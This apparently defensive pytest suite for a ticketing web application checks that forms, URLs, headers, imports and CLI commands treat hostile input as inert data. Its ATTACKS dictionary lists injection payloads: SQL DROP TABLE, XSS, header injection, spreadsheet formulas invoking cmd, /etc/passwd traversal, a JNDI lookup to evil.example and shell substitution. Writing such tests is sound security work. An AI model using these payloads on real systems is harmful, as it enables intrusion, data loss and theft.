"""What is typed, sent or imported is data: nothing of it is executed, and nothing is lost."""

from __future__ import annotations

import csv
import io
import json
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from click.testing import CliRunner
from cti_tickets.model.data_model import schema
from cti_tickets.store import objects
from cti_tickets.store.markup import readable
from hypothesis import given, settings
from hypothesis import strategies as st

from cti_host import Agent
from cti_host.command_line.cli import cli
from cti_host.testing import MakeHost, RunningHost

pytestmark = pytest.mark.long

ADMIN = """
from cti_host import Agent, hookimpl


class Plugin:
    @hookimpl
    def identify_agent(self, request):
        return Agent("root", "Root", profiles=frozenset({"Administrator"}))
"""
ATTACKS = {
    "SQL": "x'; DROP TABLE contact; --",
    "SQL condition": '" OR "1"="1',
    "SQL comment": "x/**/UNION/**/SELECT/**/password/**/FROM/**/agent",
    "LIKE": "%_%",
    "OQL": "' UNION SELECT Person WHERE '1'='1",
    "OQL parameter": ":selected_caller OR 1 = 1",
    "element": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>' onfocus='alert(1)",
    "handler": "<svg/onload=alert(1)><a href=javascript:alert(1)>x</a>",
    "end of field": "</textarea></select></title><script>alert(1)</script>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;",
    "template": "{{ config }}{% for x in (1,) %}{{ x }}{% endfor %}${7*7}#{7*7}",
    "header": "x\r\nSet-Cookie: evil=1\r\n\r\n<b>",
    "encoded header": "x%0d%0aSet-Cookie:%20evil=1",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula with a command": "+1+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)*cmd|'x'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd",
    "encoded path": "..%2f..%2fetc%2fpasswd%00.html",
    "Windows path": "C:\\Windows\\..\\..\\x",
    "format": "%s%n%(password)s%x {0.__class__.__mro__} $phone$ $datetime$",
    "lookup": "${jndi:ldap://evil.example/x}",
    "directions": "invoice\u202egnp.exe \u2066x\u2069 \u200f\u200b",
    "NUL": "a\x00b",
    "controls": "a\x1b[31mb\x07\x08c",
    "JSON": '","admin":true,"x":"',
    "shell": "$(id)`id`; id | id",
    "surrogate": "\ud800",
    "long": "A" * 300,
}
# Characters that no text of a form may hold; they are refused or left out, never executed.
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff]")


class Markup(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.fields: dict[str, str] = {}
        self.texts: list[str] = []
        self._textarea = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag == "script" and not (given.get("src") or "").startswith(("/static/", "/bootstrap/")):
            self.wrong.append(f"script {given}")
        if tag in ("iframe", "object", "embed", "base", "style"):
            self.wrong.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.wrong.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "formaction"):
                scheme = urlsplit(value or "").scheme.lower()
                if scheme not in ("", "http", "https", "tel", "mailto"):
                    self.wrong.append(f"{tag} {name}={value}")
                if urlsplit(value or "").netloc == "evil.example":
                    self.wrong.append(f"{tag} {name}={value}")
        if tag == "textarea":
            self._textarea = given.get("name") or ""
            self.fields[self._textarea] = ""
        elif tag == "input" and given.get("name"):
            self.fields[given["name"] or ""] = given.get("value") or ""

    def handle_endtag(self, tag: str) -> None:
        if tag == "textarea":
            self.fields[self._textarea] = self.fields[self._textarea].removeprefix("\n")
            self._textarea = ""

    def handle_data(self, data: str) -> None:
        self.texts.append(data)
        if self._textarea:
            self.fields[self._textarea] += data


def assert_harmless(response: Any) -> Markup:
    """A response that executes nothing, and says nothing of the inside."""
    assert response.status_code < 500, response.text[:2000]
    assert "evil" not in str(response.headers.get("Set-Cookie", ""))
    assert "Traceback" not in response.text
    assert "root:x:0" not in response.text
    assert "peewee" not in response.text
    markup = Markup(response.text if response.mimetype == "text/html" else "")
    assert not markup.wrong
    return markup


class Site:
    """A host with one of everything, and its administrator's browser."""

    def __init__(self, running: RunningHost) -> None:
        self.running = running
        self.browser = running.client()

    def token(self, url: str) -> str:
        found = re.search(r'name="csrf_token" value="([^"]+)"', self.browser.get(url).text)
        assert found
        return found[1]

    def run(self, function: Any) -> Any:
        with self.running.app.app_context(), self.running.host.database.connection_context():
            return function()

    def counts(self) -> dict[str, int]:
        """How many rows each table has: all are still there."""

        def count() -> dict[str, int]:
            execute: Any = self.running.host.database.execute_sql
            tables = self.running.host.database.get_tables()
            return {
                name: execute(f'SELECT count(*) FROM "{name}"').fetchone()[0]  # noqa: S608
                for name in tables
                if name not in ("access_entry", "received_call", "sqlite_sequence", "creation_key")
            }

        found: dict[str, int] = self.run(count)
        return found

    def stored(self, class_name: str, id_: int, code: str) -> Any:
        return self.run(lambda: getattr(objects.load(class_name, id_), code))

    def newest(self, class_name: str) -> int:
        cls = schema()[class_name]
        sql = f'SELECT max(id) FROM "{cls.table}"'  # noqa: S608
        execute: Any = self.running.host.database.execute_sql
        return int(self.run(lambda: execute(sql).fetchone()[0]))


@pytest.fixture
def site(make_host: MakeHost) -> Site:
    plugins = ["phone_reformat", "tickets", "ecall", "dialects", "event_log", "admin"]
    toml = '[url_parameters]\nphone = "phone"\nname = "name"\n'
    running = make_host(toml, plugins=plugins, sources={"admin": ADMIN}, sign_in=False)
    built = Site(running)

    def fill() -> None:
        author = Agent("setup", profiles=frozenset({"Administrator"}))
        objects.create("Organization", {"name": "Ltd"}, author=author)
        person: dict[str, Any] = {
            "name": "L",
            "first_name": "A",
            "org_id": 1,
            "phone": "0987654321",
        }
        objects.create("Person", person, author=author)
        ticket: dict[str, Any] = {"title": "T", "description": "D", "org_id": 1, "caller_id": 1}
        objects.create("UserRequest", ticket, author=author)

    built.run(fill)
    return built


def one_line(text: str) -> str:
    """A text as a field of one line sends and keeps it."""
    return text.replace("\r", "").replace("\n", "").strip()


def storable(text: str) -> str:
    """As much of a text as one line of the data model may hold."""
    return one_line(_CONTROL.sub("", text.replace("\ud800", "?")))[:200]


# The attributes of each class that hold texts.
FORMS = {
    "Person": ("name", "first_name", "email", "phone", "function"),
    "Organization": ("name", "code"),
    "UserRequest": ("title", "description", "public_log"),
}


@pytest.mark.parametrize("kind", ATTACKS)
@pytest.mark.parametrize("class_name", FORMS)
def test_what_is_typed_into_a_form_is_stored_as_it_is_or_refused_and_kept(
    site: Site, class_name: str, kind: str
) -> None:
    attack = ATTACKS[kind].replace("\ud800", "?")  # no browser sends one
    url = f"/objects/new/{class_name}"
    before = site.counts()
    values = dict.fromkeys(FORMS[class_name], attack)
    values |= {"org_id": "1", "csrf_token": site.token(url), "creation_key": attack}
    if class_name == "UserRequest":
        values |= {"caller_id": "1"}
    sent = site.browser.post(url, data=values)
    shown = assert_harmless(sent)
    after = site.counts()
    if sent.status_code == 303:
        page = site.browser.get(sent.location)
        assert_harmless(page)
        id_ = int(re.search(r"/(\d+)(?:\?|$)", sent.location)[1])  # type: ignore[index]
        for code in FORMS[class_name]:
            if code == "public_log":
                continue
            kept = site.stored(class_name, id_, code)
            if code == "description":
                assert same(readable(kept), attack)
            else:
                assert same(kept, one_line(attack)), code
        assert_harmless(site.browser.get(f"/objects/{class_name}/{id_}/modify"))
        assert sum(after.values()) > sum(before.values())
    else:
        assert sent.status_code == 400
        for code in FORMS[class_name]:
            assert same(shown.fields[code], attack), code
        assert after == before
    assert all(after[table] >= count for table, count in before.items())


def same(kept: str, sent: str) -> bool:
    """Whether a text was kept, but for line ends, blanks at its ends, and what none may hold."""

    def plain(text: str) -> str:
        return re.sub(r"\s+", " ", _CONTROL.sub("", text)).strip().replace("\ufffd", "")

    return plain(kept) == plain(sent)


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_is_stored_is_shown_as_text_wherever_it_stands(site: Site, kind: str) -> None:
    attack = storable(ATTACKS[kind])

    def fill() -> None:
        author = Agent("setup", attack, profiles=frozenset({"Administrator"}))
        objects.update("Organization", 1, {"name": attack}, author=author)
        person = {"name": attack, "first_name": attack, "email": "", "function": attack}
        objects.update("Person", 1, person, author=author)
        ticket = {"title": attack, "description": attack, "public_log": attack}
        objects.update("UserRequest", 1, ticket, author=author)
        call: dict[str, Any] = {
            "contact_id": 1,
            "agent_id": 1,
            "ticket_id": 1,
            "flow": "inbound",
            "note": attack,
        }
        objects.create("PhoneCall", call, author=author)

    site.run(fill)
    for url in (
        "/pop?phone=0987654321&name=x",
        "/lookup?phone=0987654321",
        "/objects/Person/1",
        "/objects/Person/1/modify",
        "/objects/UserRequest/1",
        "/objects/UserRequest/1/modify",
        "/objects/PhoneCall/1",
        "/objects/Organization/1",
        "/objects/UserRequest/1?tab=history",
        "/objects/",
        "/objects/Person",
        "/objects/UserRequest",
        "/objects/PhoneCall",
        "/objects/directory",
        "/create/UserRequest?phone=0987654321&selected_caller=tickets:Person:1",
    ):
        response = site.browser.get(url, follow_redirects=True)
        assert response.status_code == 200, url
        markup = assert_harmless(response)
        if url in ("/objects/UserRequest/1", "/pop?phone=0987654321&name=x"):
            assert (
                any(same(attack, text) for text in markup.texts)
                or attack in response.text
                or (_visible(attack) in _visible("".join(markup.texts)))
            )
    panel = site.browser.get(
        "/pop?phone=0987654321&name=x", headers={"Accept": "application/json"}
    ).get_json()
    assert same(panel["ticket_lists"][0]["tickets"][0]["title"], attack)


def _visible(text: str) -> str:
    return re.sub(r"\W", "", text)


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_comes_in_an_address_is_data(site: Site, kind: str) -> None:
    before = site.counts()
    attack = quote(ATTACKS[kind].encode("utf-8", "surrogatepass"), safe="")
    for url in (
        f"/pop?phone={attack}&name={attack}",
        f"/pop?phone=0987654321&name={attack}&selected_caller={attack}&page_tickets.0={attack}",
        f"/pop?phone=0987654321&name=x&filter={attack}&selected_caller=all",
        f"/pop?phone=1&name=x&{attack}={attack}",
        f"/pop?sealed={attack}",
        f"/lookup?phone={attack}",
        f"/lookup?name={attack}&phone=",
        f"/create/{attack}?phone=1",
        f"/create/UserRequest?phone={attack}&selected_caller=unknown",
        f"/create/UserRequest?phone=0987654321&selected_caller={attack}",
        f"/objects/{attack}/1",
        f"/objects/Person/{attack}",
        f"/objects/Person/1/{attack}",
        f"/objects/Person/1?tab={attack}&next={attack}",
        f"/objects/UserRequest/1/stimulus/{attack}",
        f"/objects/new/{attack}",
        f"/objects/new/Person?name={attack}&phone={attack}&org_id={attack}&next={attack}",
        f"/objects/new/UserRequest?title={attack}&caller_id={attack}&{attack}=1",
        f"/api/v1/objects/Person/suggestions?q={attack}",
        f"/api/v1/objects/UserRequest/following?org_id={attack}&{attack}=1",
        f"/objects/Person?name={attack}&phone={attack}&q={attack}&org_id={attack}",
        f"/objects/Person?sort={attack}&after={attack}&before={attack}&{attack}=x",
        f"/objects/PhoneCall?from={attack}&to={attack}&created={attack}&flow={attack}",
        f"/objects/Person/export?format={attack}",
        f"/objects/Person/export?format=csv&name={attack}",
        f"/objects/{attack}",
        f"/objects/Person/1/delete?next={attack}",
        f"/api/v1/objects/{attack}/suggestions?q=x",
        f"/ticket/{attack}/UserRequest/1",
        f"/ticket/tickets/{attack}/1?phone={attack}",
        f"/static/{attack}",
        f"/bootstrap/static/{attack}",
        f"/pages/exec.php?exec_module={attack}&exec_page={attack}&phone={attack}",
        f"/{attack}",
    ):
        for accept in ("text/html", "application/json"):
            response = site.browser.get(url, headers={"Accept": accept})
            assert_harmless(response)
            location = urlsplit(response.headers.get("Location", ""))
            assert location.netloc in ("", "localhost"), url
    assert site.counts() == before


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_comes_in_a_header_or_a_hidden_field_is_data(site: Site, kind: str) -> None:
    attack = ATTACKS[kind].replace("\ud800", "?")
    before = site.counts()
    token = site.token("/")
    in_header = re.sub(r"[\r\n\x00]", " ", attack).encode("utf-8").decode("latin-1")
    for name in ("Accept-Language", "User-Agent", "Referer", "X-Forwarded-For", "Accept"):
        assert_harmless(site.browser.get("/", headers={name: in_header}))
    for url, values in (
        ("/language", {"language": attack, "next": attack}),
        ("/language", {"language": "fr", "next": attack}),
        ("/ticket/tickets/UserRequest/1/call", {"action": attack}),
        ("/objects/Person/1/call/phone", {"x": attack}),
        ("/objects/UserRequest/1/modify", {"version": attack, "title": "T", "next": attack}),
        ("/objects/Person/bulk-modify", {"id": attack, "ids": attack, "function": attack}),
        ("/objects/Person/bulk-delete", {"id": attack, "ids": attack}),
        ("/objects/Person/1/delete", {"next": attack, "version": attack}),
        ("/objects/new/Person", {"org_id": attack, "name": "x", "status": attack}),
    ):
        response = site.browser.post(url, data={"csrf_token": token, **values})
        assert_harmless(response)
        target = response.headers.get("Location", "")
        assert urlsplit(target).netloc in ("", "localhost"), (url, target)
        assert not target.startswith(("//", "/\\"))
    assert site.browser.post("/language", data={"csrf_token": attack}).status_code == 400
    after = site.counts()
    assert all(after[table] >= count for table, count in before.items())


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_what_is_imported_comes_out_again_as_it_was_and_is_no_formula(
    site: Site, tmp_path: Any, form: str
) -> None:
    config = ["--config", str(site.running.config_file)]
    attacks = {kind: storable(text) for kind, text in ATTACKS.items()}
    file = tmp_path / f"organizations.{form}"
    if form == "jsonl":
        lines = [
            {"class": "Organization", "fields": {"name": text, "code": kind}}
            for kind, text in attacks.items()
        ]
        file.write_text("".join(f"{json.dumps(line)}\n" for line in lines), encoding="utf-8")
    else:
        with file.open("w", encoding="utf-8", newline="") as out:
            writer = csv.writer(out)
            writer.writerow(["name", "code"])
            writer.writerows([text, kind] for kind, text in attacks.items())
    words = ["data", "import", str(file)] + (["--class", "Organization"] if form == "csv" else [])
    done = CliRunner().invoke(cli, [*config, *words])
    assert done.exit_code == 0, done.output
    out = CliRunner().invoke(cli, [*config, "data", "export", "Organization", "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t")), row["name"]
    kept = {row["code"]: row["name"] for row in rows}
    for kind, text in attacks.items():
        name = kept[kind].removeprefix("'") if kind.startswith("formula") else kept[kind]
        assert same(name, text), kind


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_is_given_to_a_command_is_data(site: Site, kind: str) -> None:
    attack = ATTACKS[kind]
    before = site.counts()
    config = ["--config", str(site.running.config_file)]
    for words in (
        ["oql", "SELECT Person WHERE name = :x", "--param", f"x={attack}"],
        ["oql", attack],
        ["oql", f"SELECT Person WHERE name = '{attack}'"],
        ["explain", f"/pop?phone={attack}&name=x"],
        ["privacy", "export", attack],
        ["privacy", "erase", attack, "--yes"],
        ["data", "export", attack],
    ):
        result = CliRunner().invoke(cli, [*config, *words])
        assert not result.exception or isinstance(result.exception, SystemExit), (
            words, result.exception
        )  # fmt: skip
        assert "root:x:0" not in result.output
    assert site.counts() == before


@given(st.text(max_size=60), st.text(max_size=60))
@settings(max_examples=60, deadline=None)
def test_any_text_in_an_address_or_form_does_no_harm(site: Site, one: str, other: str) -> None:
    encoded = [quote(text.encode("utf-8", "surrogatepass"), safe="") for text in (one, other)]
    url = f"/pop?phone={encoded[0]}&name={encoded[1]}"
    assert_harmless(site.browser.get(url))
    assert_harmless(site.browser.get(f"/objects/new/Person?name={encoded[0]}&next={encoded[1]}"))
    values = {"csrf_token": site.token("/"), "title": other.encode("utf-8", "replace").decode()}
    sent = site.browser.post("/objects/UserRequest/1/modify", data=values)
    assert_harmless(sent)
